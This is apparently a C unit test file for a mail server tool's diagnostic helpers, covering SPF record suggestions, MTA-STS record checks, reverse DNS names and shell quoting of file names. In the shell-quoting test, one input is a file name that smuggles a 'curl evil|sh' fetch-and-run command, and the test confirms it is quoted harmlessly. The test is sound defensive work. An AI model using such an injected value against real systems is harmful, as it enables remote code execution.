/* SPDX-License-Identifier: ISC */
/*
 * Unit tests for cli/doctor_text.c (issue 17, tern doctor): the SPF
 * record suggested from a published one, the MTA-STS record test and
 * the PTR names of addresses. Table cases, more invalid than valid,
 * and the output bound at limit-1, limit and limit+1.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <arpa/inet.h>
#include <netinet/in.h>

#include <cmocka.h>

#include "cli/doctor_text.h"

struct spf_case {
	const char *name;
	const char *in;
	const char *want; /* NULL: refused */
};

static const struct spf_case spf_cases[] = {
	{ "plain", "v=spf1 mx -all", "v=spf1 ip4:192.0.2.1 mx -all" },
	{ "bare", "v=spf1", "v=spf1 ip4:192.0.2.1" },
	{ "case", "V=SPF1 a ~all", "v=spf1 ip4:192.0.2.1 a ~all" },
	{ "spaces", "v=spf1   a    -all  ", "v=spf1 ip4:192.0.2.1 a -all" },
	{ "redirect", "v=spf1 redirect=_spf.example.org",
	    "v=spf1 ip4:192.0.2.1 redirect=_spf.example.org" },
	/* refused */
	{ "empty", "", NULL },
	{ "not-spf", "v=spf10 a -all", NULL },
	{ "other", "google-site-verification=abc", NULL },
	{ "control", "v=spf1 a\x01 -all", NULL },
	{ "tab", "v=spf1\ta -all", NULL },
	{ "newline", "v=spf1 a\r\n-all", NULL },
	{ "high-byte", "v=spf1 a:\xc3\xa9xample.org -all", NULL },
	{ "del", "v=spf1 a\x7f -all", NULL },
};

/* A file name in a fix: line stays one word, never a command. */
static void
test_shell_word(void **state)
{
	char out[64];

	(void)state;
	assert_true(doctor_shell_word("/var/lib/tern/dkim/a.org/s1.key", out,
	    sizeof(out)));
	assert_string_equal(out, "/var/lib/tern/dkim/a.org/s1.key");
	assert_true(doctor_shell_word("/d/x;curl evil|sh;.key", out,
	    sizeof(out)));
	assert_string_equal(out, "'/d/x;curl evil|sh;.key'");
	assert_true(doctor_shell_word("/d/it's $(x)", out, sizeof(out)));
	assert_string_equal(out, "'/d/it'\\''s $(x)'");
	assert_true(doctor_shell_word("", out, sizeof(out)));
	assert_string_equal(out, "''");
	assert_false(doctor_shell_word("a b c d e f", out, 8));
}

static void
test_spf_suggest(void **state)
{
	char out[512];
	size_t i;
	bool ok;

	(void)state;
	for (i = 0; i < sizeof(spf_cases) / sizeof(spf_cases[0]); i++) {
		const struct spf_case *c = &spf_cases[i];

		ok = doctor_spf_suggest(c->in, strlen(c->in), "ip4:192.0.2.1",
		    out, sizeof(out));
		if (ok != (c->want != NULL))
			fail_msg("%s: got %d", c->name, ok);
		if (ok && strcmp(out, c->want) != 0)
			fail_msg("%s: got \"%s\"", c->name, out);
	}
}

/* The output buffer at limit-1, limit and limit+1. */
static void
test_spf_suggest_bound(void **state)
{
	const char *in = "v=spf1 -all";
	const char *want = "v=spf1 ip4:192.0.2.1 -all";
	size_t need = strlen(want) + 1;
	char out[64];

	(void)state;
	memset(out, 'x', sizeof(out));
	assert_false(
	    doctor_spf_suggest(in, strlen(in), "ip4:192.0.2.1", out, need - 1));
	assert_true(strlen(out) < need - 1);
	assert_true(
	    doctor_spf_suggest(in, strlen(in), "ip4:192.0.2.1", out, need));
	assert_string_equal(out, want);
	assert_true(
	    doctor_spf_suggest(in, strlen(in), "ip4:192.0.2.1", out, need + 1));
	assert_string_equal(out, want);
	assert_false(
	    doctor_spf_suggest(in, strlen(in), "ip4:192.0.2.1", out, 0));
}

struct sts_case {
	const char *in;
	bool ok;
};

static const struct sts_case sts_cases[] = {
	{ "v=STSv1; id=20240101T000000", true },
	{ "v=STSv1;id=1", true },
	{ "v=STSv1 ; id=abc ;", true },
	{ "v=STSv1; foo=bar; id=12345678901234567890123456789012", true },
	/* invalid */
	{ "", false },
	{ "v=STSv1", false },
	{ "v=STSv1;", false },
	{ "v=STSv1; id=", false },
	{ "v=STSv1; id=123456789012345678901234567890123", false },
	{ "v=STSv1; id=abc-def", false },
	{ "v=stsv1; id=abc", false },
	{ "v=STSv10; id=abc", false },
	{ "v=STSv2; id=abc", false },
	{ " v=STSv1; id=abc", false },
	{ "id=abc; v=STSv1", false },
	{ "v=STSv1; ID=abc", false },
};

static void
test_sts(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(sts_cases) / sizeof(sts_cases[0]); i++)
		if (doctor_sts_is_record(sts_cases[i].in,
		        strlen(sts_cases[i].in)) != sts_cases[i].ok)
			fail_msg("\"%s\": want %d", sts_cases[i].in,
			    sts_cases[i].ok);
}

/* A record that is a proper prefix of a good one is never good, except
 * where the prefix is itself complete. */
static void
test_sts_prefixes(void **state)
{
	const char *in = "v=STSv1; id=abc";
	size_t cut;

	(void)state;
	for (cut = 0; cut < strlen("v=STSv1; id="); cut++)
		assert_false(doctor_sts_is_record(in, cut));
	for (; cut < strlen(in); cut++)
		assert_true(doctor_sts_is_record(in, cut + 1));
}

static void
test_reverse(void **state)
{
	struct sockaddr_in s4 = { .sin_family = AF_INET };
	struct sockaddr_in6 s6 = { .sin6_family = AF_INET6 };
	struct sockaddr bad = { .sa_family = AF_UNIX };
	char out[DOCTOR_PTR_NAME_MAX];

	(void)state;
	assert_int_equal(inet_pton(AF_INET, "192.0.2.10", &s4.sin_addr), 1);
	assert_true(doctor_reverse_name((void *)&s4, out, sizeof(out)));
	assert_string_equal(out, "10.2.0.192.in-addr.arpa");
	assert_int_equal(inet_pton(AF_INET6, "2001:db8::1", &s6.sin6_addr), 1);
	assert_true(doctor_reverse_name((void *)&s6, out, sizeof(out)));
	assert_string_equal(out, "1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0."
	                         "0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa");
	/* limit: exactly DOCTOR_PTR_NAME_MAX, and one less refused */
	assert_int_equal(strlen(out) + 1, DOCTOR_PTR_NAME_MAX);
	assert_false(doctor_reverse_name((void *)&s6, out, sizeof(out) - 1));
	assert_int_equal(inet_pton(AF_INET6, "::ffff:192.0.2.10",
	                     &s6.sin6_addr),
	    1);
	assert_true(doctor_reverse_name((void *)&s6, out, sizeof(out)));
	assert_string_equal(out, "10.2.0.192.in-addr.arpa");
	assert_false(doctor_reverse_name((void *)&s4, out, 10));
	assert_false(doctor_reverse_name(&bad, out, sizeof(out)));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_shell_word),
		cmocka_unit_test(test_spf_suggest),
		cmocka_unit_test(test_spf_suggest_bound),
		cmocka_unit_test(test_sts),
		cmocka_unit_test(test_sts_prefixes),
		cmocka_unit_test(test_reverse),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
